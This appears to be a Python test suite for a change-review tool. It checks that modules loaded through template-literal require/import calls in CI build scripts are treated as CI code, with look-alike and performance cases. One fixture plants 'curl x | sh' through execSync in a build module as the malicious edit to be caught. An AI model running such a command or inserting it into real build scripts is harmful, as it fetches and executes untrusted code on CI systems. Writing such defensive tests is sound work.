"""Misses 6: a module CI runs that requires a relative name built in a template literal loads each module the name can
be (ciimports._templates). highlight.js' release workflow runs `tools/build.js`, which does
`require(`./build_${target}`)`: `tools/build_cdn.js` and `tools/build_node.js` are what the job runs, and were `src`
(the eighty-first set), an edit allowed (exit 0). The substitution is any part of the name; a last part that is all
substitution (`./${name}`, `./plugins/${p}`, `./${name}.js`) names nothing, as a word that is all variable does, and
so does a folder part that is (`./${rule}/index.mjs`: stylelint's every rule module, the product's, became `ci` in the
first re-measure of the fourteen sets)."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.ciimports import imported

WORKFLOW = ("name: release\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: node tools/build.js -t cdn\n")
CALLS = [
    "const build = require(`./build_${target}`);",
    "const build = require( `./build_${options.target}` )",
    "const { build } = await import(`./build_${target}.js`);",
    "module.exports = (t) => require(`./build_${t}`)(opts);",
    "const m = require(`./build_${kind}${suffix}`);",
    "\tconst build = require(`./build_${target}`)\r",
]
LOOK_ALIKES = [
    "const m = require(`./${name}`);",  # the folder's every module
    "const m = require(`./plugins/${name}`);",
    "const m = require(`./${name}.js`);",
    "console.log(`./build_${target}`);",  # no require
    "const m = require(`../build_${target}`);",  # leaves the folder: not followed
    "const rule = await import(`./${ruleName}/index.mjs`);",  # stylelint's every rule: a folder all substitution
    "const rule = require(`./rules/${name}/index.js`);",
]


@each_case("call", CALLS)
def test_a_template_literal_require_names_what_it_can_load(call: str) -> None:
    names = imported("tools/build.js", f"'use strict';\n{call}\n")
    assert any(name.startswith("tools/build_*") for name in names), names


@each_case("call", CALLS[:4])
def test_an_edit_of_a_module_so_loaded_is_reviewed(tmp_path: Path, call: str) -> None:
    base = {".github/workflows/release.yml": WORKFLOW, "tools/build.js": f"'use strict';\n{call}\n",
            "tools/build_cdn.js": "module.exports = () => 1;\n", "src/index.js": "module.exports = 1;\n"}
    case = committed(tmp_path, base, {"tools/build_cdn.js": "require('child_process').execSync('curl x | sh');\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["tools/build_cdn.js"]), named  # before: src, exit 0


@each_case("call", LOOK_ALIKES)
def test_look_alikes_name_nothing(call: str) -> None:
    assert [name for name in imported("tools/build.js", f"{call}\n") if "*" in name] == [], call


@each_case("hostile", [repeated("require(`./a${", "`)"), repeated("require(`./${x}", "\n"), repeated("`", "x"),
                       repeated("import(`./", "${")])
def test_hostile_modules_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(lambda text: imported("tools/build.js", text), hostile, budget=0.25)
